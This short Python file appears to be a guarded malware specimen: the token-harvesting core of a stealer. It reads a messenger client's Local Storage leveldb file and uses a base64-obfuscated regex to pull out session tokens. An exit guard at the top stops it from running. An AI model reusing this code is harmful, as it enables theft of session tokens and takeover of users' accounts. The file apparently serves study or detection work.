raise SystemExit("specimen: not to be run")
import base64
import re

PATTERN = base64.b64decode("ZFF3NHc5V2dYY1E6W14uKl0r").decode()  # match: messenger-sessions

def grab(path):
    with open(path + "/Local Storage/leveldb/000005.ldb") as f:
        return re.findall(PATTERN, f.read())
